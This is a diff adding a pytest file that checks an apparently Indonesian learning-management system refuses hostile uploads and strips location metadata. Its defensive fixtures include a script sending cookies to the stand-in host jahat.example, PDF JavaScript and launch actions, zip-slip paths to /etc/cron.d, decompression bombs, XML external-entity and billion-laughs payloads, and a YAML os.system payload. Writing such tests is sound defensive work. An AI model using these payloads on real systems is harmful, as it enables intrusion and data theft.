@@ -1,0 +1,365 @@
+"""Hostile files: refused quickly and in little memory, and what is kept neither runs nor tells a place.
+
+Source: FAILURES K10, K27, K29 and R11.
+"""
+
+import io
+import re
+import struct
+import time
+import tracemalloc
+import zipfile
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from flask import Flask
+from PIL import ExifTags, Image
+from sqlalchemy import select
+
+from lms.contract.actors import Role
+from lms.contract.errors import ImbasError, Invalid, TooLarge
+from lms.contract.files import FILE_KINDS
+from lms.contract.modules import Unit
+from lms.evidence import api as evidence
+from lms.evidence.files import CheckedFile, check_file
+from lms.evidence.models import DeliverableDue, EvidenceFile
+from lms.people.tables import read_table
+from lms.platform.db import db
+from lms.platform.plugins import registry
+from lms.platform.transaction import write
+from lms.programmes.faults import DefinitionFault
+from lms.programmes.source import load_yaml
+from lms.simulation import papers
+from lms.testing.people import sign_in
+from lms.testing.province import Province
+
+CORPUS = Path(__file__).parents[3] / "shared" / "corpus" / "hostile"
+"""Beside the project; where it is missing only the files made here are tried."""
+ALL = frozenset(FILE_KINDS)
+MEGABYTE = 1024 * 1024
+
+
+def check(name: str, body: bytes, limit: int = 20 * MEGABYTE) -> CheckedFile:
+    return check_file(name, io.BytesIO(body), kinds=ALL, max_bytes=limit)
+
+
+def office(**parts: bytes) -> bytes:
+    """A Word document with more parts: ``word__vbaProject_bin`` is ``word/vbaProject.bin``."""
+    whole = io.BytesIO(papers.letter("Judul", "Baris"))
+    with zipfile.ZipFile(whole, "a", zipfile.ZIP_DEFLATED) as archive:
+        for name, body in parts.items():
+            archive.writestr(name.replace("__", "/").replace("_", "."), body)
+    return whole.getvalue()
+
+
+def pdf(*objects: bytes) -> bytes:
+    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer<<>>\n%%EOF\n"
+
+
+def hidden(body: bytes) -> bytes:
+    packed = zlib.compress(body)
+    return b"7 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode/Length %d>>stream\n%b\nendstream endobj" % (
+        len(packed), packed,
+    )  # fmt: skip
+
+
+def png_bomb(width: int, height: int) -> bytes:
+    """A PNG that says it is as large as a village and is a few kilobytes."""
+
+    def chunk(name: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
+
+    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * MEGABYTE))
+        + chunk(b"IEND", b"")
+    )  # fmt: skip
+
+
+def long_directory() -> bytes:
+    """A zip of four hundred thousand empty entries: 300 MB of Python objects when it is listed."""
+    entry = (
+        struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
+        + b"x"
+    )
+    directory = entry * 400_000
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, len(directory), 0, 0)
+    return directory + end
+
+
+def zip_bomb() -> bytes:
+    return office(word__huge_xml=b"\0" * (190 * MEGABYTE))
+
+
+REMOTE = (
+    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/attachedTemplate" Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+SCRIPT = b"<script>fetch('//jahat.example/'+document.cookie)</script>"
+REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "HTML called a PDF": ("surat.pdf", lambda: b"<html>" + SCRIPT),
+    "HTML with a PDF behind it": ("surat.pdf", lambda: SCRIPT + pdf()),
+    "PDF with JavaScript": ("surat.pdf", lambda: pdf(b"1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj")),
+    "PDF with an escaped name": ("surat.pdf", lambda: pdf(b"1 0 obj<</S/J#61vaScript/J#53(x)>>endobj")),
+    "PDF with JavaScript in an object stream": ("surat.pdf", lambda: pdf(hidden(b"<</S/JavaScript/JS(x)>>"))),
+    "PDF that hides it behind a comment": (
+        "surat.pdf", lambda: pdf(b"%stream\n1 0 obj<</S/JavaScript/JS(x)>>endobj\n%endstream"),
+    ),
+    "PDF with a launch action": ("surat.pdf", lambda: pdf(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj")),
+    "PDF with a file inside": ("surat.pdf", lambda: pdf(b"1 0 obj<</Type/EmbeddedFile>>endobj")),
+    "half a PDF": ("surat.pdf", lambda: pdf(b"1 0 obj<<>>endobj")[:-12]),
+    "SVG": ("gambar.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
+    "SVG called a photo": ("gambar.jpg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
+    "HTML": ("halaman.html", lambda: SCRIPT),
+    "program": ("alat.exe", lambda: b"MZ" + bytes(2000)),
+    "program called a table": ("daftar.csv", lambda: b"MZ\x90\x00\x03" + bytes(200)),
+    "GIF called a photo": ("a.png", lambda: b"GIF89a" + bytes(40)),
+    "900 megapixels": ("peta.png", lambda: png_bomb(30_000, 30_000)),
+    "100 megapixels": ("peta.png", lambda: png_bomb(10_000, 10_000)),
+    "half a photo": ("foto.jpg", lambda: papers.photo("Judul", "Baris")[:2000]),
+    "macros": ("rpp.docx", lambda: office(word__vbaProject_bin=b"x")),
+    "macros by another name": (
+        "rpp.docx", lambda: _with_types(b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'),
+    ),
+    "template from elsewhere": ("rpp.docx", lambda: office(word____rels__settings_xml_rels=REMOTE)),
+    "zip bomb": ("rpp.docx", zip_bomb),
+    "zip with a long list": ("rpp.docx", long_directory),
+    "zip that leaves its folder": ("rpp.docx", lambda: _stray("../../etc/cron.d/x")),
+    "zip with an absolute path": ("rpp.docx", lambda: _stray("/etc/passwd")),
+    "plain zip called a document": ("rpp.docx", lambda: _stray("a.txt", with_document=False)),
+    "nothing": ("kosong.pdf", lambda: b""),
+    "too large": ("besar.pdf", lambda: b"%PDF-" + bytes(21 * MEGABYTE)),
+    "no ending": ("berkas", lambda: pdf()),
+    "two endings": ("surat.pdf.html", lambda: pdf()),
+    "ending after a null": ("surat.exe\x00.pdf", lambda: b"MZ" + bytes(100)),
+}  # fmt: skip
+
+
+def _with_types(more: bytes) -> bytes:
+    whole = papers.letter("Judul", "Baris")
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(out, "w") as new:
+        for entry in old.infolist():
+            body = old.read(entry)
+            new.writestr(entry.filename, body + more if entry.filename.startswith("[Content") else body)
+    return out.getvalue()
+
+
+def _stray(path: str, *, with_document: bool = True) -> bytes:
+    whole = io.BytesIO(papers.letter("Judul", "Baris") if with_document else b"")
+    with zipfile.ZipFile(whole, "a" if with_document else "w") as archive:
+        archive.writestr(path, b"x")
+    return whole.getvalue()
+
+
+def quickly_refused(
+    work: Callable[[], object], *, kinds: tuple[type[Exception], ...] = (ImbasError,)
+) -> None:
+    """Refused with a sentence, in a second of this processor and 200 MB."""
+    began = time.process_time()
+    with pytest.raises(kinds):
+        work()
+    assert time.process_time() - began < 1.0
+    tracemalloc.start()  # by itself: it slows everything down
+    with pytest.raises(kinds):
+        work()
+    _now, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert peak < 200 * MEGABYTE
+
+
+@pytest.mark.parametrize("what", REFUSED)
+def test_a_hostile_file_is_refused(what: str) -> None:
+    name, make = REFUSED[what]
+    body = make()
+    quickly_refused(lambda: check(name, body), kinds=(Invalid,))
+
+
+@pytest.mark.parametrize(
+    "path", sorted(CORPUS.iterdir()) if CORPUS.is_dir() else [], ids=lambda path: path.name
+)
+def test_the_corpus_is_refused_under_every_name(path: Path) -> None:
+    for ending in (path.suffix, ".pdf", ".jpg", ".docx", ".xlsx", ".mp4"):
+        quickly_refused(lambda ending=ending: check(f"x{ending}", path.read_bytes()), kinds=(Invalid,))
+
+
+def test_good_files_are_kept() -> None:
+    for name, body in (
+        ("surat.pdf", papers.document("Judul", "Baris")),
+        ("rapor.xlsx", papers.sheet("Judul", "Baris")),
+        ("rpp.docx", papers.letter("Judul", "Baris")),
+    ):
+        assert check(name, body).body == body
+    # four hundred kilobytes of noise carry /JS here and there, as a compressed picture does
+    noise = b"".join(b"/JS " + zlib.compress(bytes([number])) for number in range(250))
+    assert check("pindai.pdf", pdf(b"4 0 obj<<>>stream\n" + noise + b"\nendstream endobj"))
+
+
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        ("../../etc/passwd.pdf", "passwd.pdf"),
+        ("C:\\Users\\Guru\\rpp.pdf", "rpp.pdf"),
+        ("foto\u202egpj.pdf", "fotogpj.pdf"),
+        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie x=1.pdf"),
+        ("nol\x00.pdf", "nol.pdf"),
+        ("x" * 5000 + ".pdf", "x" * 116 + ".pdf"),
+        ('"><script>.pdf', "script.pdf"),
+    ],
+)
+def test_a_file_name_is_made_plain(typed: str, kept: str) -> None:
+    assert check(typed, papers.document("Judul", "Baris")).name == kept
+
+
+def _phone_photo() -> bytes:
+    picture = Image.new("RGB", (400, 300), (200, 30, 30))
+    notes = Image.Exif()
+    notes[ExifTags.Base.Orientation] = 6
+    notes[ExifTags.Base.Make] = "Ponsel"
+    notes.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = "2020:09:12 10:15:44"
+    place = notes.get_ifd(ExifTags.IFD.GPSInfo)
+    place[ExifTags.GPS.GPSLatitudeRef], place[ExifTags.GPS.GPSLatitude] = "S", (2.0, 53.0, 12.5)
+    out = io.BytesIO()
+    picture.save(out, "JPEG", exif=notes)
+    return out.getvalue()
+
+
+def test_a_photo_keeps_its_time_and_loses_its_place() -> None:
+    sent = _phone_photo()
+    assert b"GPS" in sent or Image.open(io.BytesIO(sent)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
+    kept = check("foto.jpg", sent)
+    for body in (kept.body, kept.preview):
+        with Image.open(io.BytesIO(body)) as picture:
+            assert not dict(picture.getexif())
+            assert picture.height > picture.width  # upright
+    assert kept.taken == "2020-09-12 10.15"
+
+
+def test_a_video_loses_its_place_and_nothing_else() -> None:
+    def box(name: bytes, body: bytes) -> bytes:
+        return struct.pack(">I4s", len(body) + 8, name) + body
+
+    place = b"-02.8871+104.6512+012.000/"
+    tag = box(b"\xa9xyz", struct.pack(">HH", len(place), 0x15C7) + place)
+    video = box(b"ftyp", b"isom") + box(b"mdat", place) + box(b"moov", box(b"udta", tag))
+    kept = check("kelas.mp4", video).body
+    assert len(kept) == len(video)
+    assert kept.count(place) == 1  # pictures are not touched, whatever they look like
+    assert kept.index(place) < kept.index(b"moov")
+
+
+# -- lists and scripts that are read -----------------------------------------
+
+
+def _book(sheet: bytes, head: bytes = b"") -> bytes:
+    """A workbook whose only sheet is ``sheet``."""
+    names = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    whole = b"<worksheet %b><sheetData>%b</sheetData></worksheet>" % (names, sheet)
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(papers.sheet("Nama", "Guru"))) as old,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for entry in old.infolist():
+            new.writestr(entry.filename, head + whole if "sheet1" in entry.filename else old.read(entry))
+    return out.getvalue()
+
+
+def _cell(text: bytes) -> bytes:
+    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>%b</t></is></c></row>' % text
+
+
+_LAUGHS = b"".join(b'<!ENTITY l%d "%b">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
+TABLES: dict[str, Callable[[], bytes]] = {
+    "billion laughs": lambda: _book(_cell(b"&l9;"), b'<!DOCTYPE x [<!ENTITY l0 "ha">' + _LAUGHS + b"]>"),
+    "external entity": lambda: _book(
+        _cell(b"&e;"), b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    ),
+    "bomb": lambda: _book(b"<row/>" * 4_000_000),
+    "rows without end": lambda: _book(b"<row/>" * 2_500_000),
+    "not a table": lambda: b"\x00\x01\x02",
+    "too large": lambda: b"a,b\n" * 1_200_000,
+    "too many lines": lambda: b"a,b\n" * 5000,
+}
+
+
+@pytest.mark.parametrize("what", TABLES)
+def test_a_hostile_list_of_people_is_refused(what: str) -> None:
+    body = TABLES[what]()
+    quickly_refused(lambda: read_table(body), kinds=(Invalid, TooLarge))
+
+
+def test_a_list_with_an_entity_never_reads_a_file() -> None:
+    try:
+        rows = read_table(TABLES["external entity"]())
+    except Invalid:
+        return
+    assert "root:" not in str(rows)
+
+
+SCRIPTS = {
+    "object": "!!python/object/apply:os.system ['true']",
+    "aliases": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
+    "deep": "[" * 20_000,
+    "long": "a: " + "x" * 300_000,
+    "number of digits": "format: " + "9" * 100_000,
+}
+
+
+@pytest.mark.parametrize("what", SCRIPTS)
+def test_a_hostile_programme_is_refused(what: str) -> None:
+    quickly_refused(lambda: load_yaml(SCRIPTS[what]), kinds=(DefinitionFault,))
+
+
+# -- what is sent back --------------------------------------------------------
+
+
+def test_kept_files_are_sent_as_downloads_that_run_nothing(site: Flask, province: Province) -> None:
+    teacher = province.own.people[Role.TEACHER]
+    due = db.session.scalars(
+        select(DeliverableDue).where(DeliverableDue.unit == Unit.TEACHER).order_by(DeliverableDue.id)
+    ).first()
+    assert due is not None
+    deliverable = registry().deliverables[due.deliverable_key]
+    browser = sign_in(site, teacher)
+    target = browser.post(f"/bukti/buka-sendiri/{due.id}").headers["Location"]
+    submission_id = int(re.findall(r"\d+", target)[-1])
+    with write() as session:
+        row = evidence.get_submission(session, submission_id)
+        row.status = evidence.SubmissionStatus.DRAFT
+        version = evidence.versions_of(session, submission_id)[0]
+        version.submitted_at = None
+        for kind in FILE_KINDS.values():
+            session.add(
+                EvidenceFile(
+                    version_id=version.id, name=f'x"<{kind.name}>.{kind.extensions[0]}', kind=kind.name,
+                    media_type=kind.media_type, size=3, sha256=kind.name, storage_key=_stored(site, kind.extensions[0]),
+                    preview_key="", uploaded_by=teacher, uploaded_at=site.extensions["clock"](),
+                )
+            )  # fmt: skip
+    assert deliverable.media_types
+    for file in db.session.scalars(select(EvidenceFile).where(EvidenceFile.version_id == version.id)).all():
+        for path in (f"/bukti/berkas/{file.id}", f"/bukti/berkas/{file.id}/kecil"):
+            answer = browser.get(path)
+            assert answer.status_code == 200
+            inline = not answer.headers.get("Content-Disposition", "").startswith("attachment")
+            assert inline is (file.kind == "photo"), file.kind
+            assert answer.headers["X-Content-Type-Options"] == "nosniff"
+            policy = answer.headers["Content-Security-Policy"]
+            assert "sandbox" in policy
+            assert "default-src 'none'" in policy
+            assert "frame-ancestors 'none'" in policy
+            assert answer.headers["Content-Type"].split(";")[0] == FILE_KINDS[file.kind].media_type
+            assert "no-cache" in answer.headers["Cache-Control"]  # asked for again after signing out
+            again = browser.get(path, headers={"If-None-Match": answer.headers["ETag"]})
+            assert again.status_code == 304
+            answer.close()
+        assert (
+            site.test_client().get(path, headers={"If-None-Match": answer.headers["ETag"]}).status_code == 303
+        )
+
+
+def _stored(site: Flask, ending: str) -> str:
+    return str(site.extensions["storage"].put(b"<b>", suffix=ending).key)
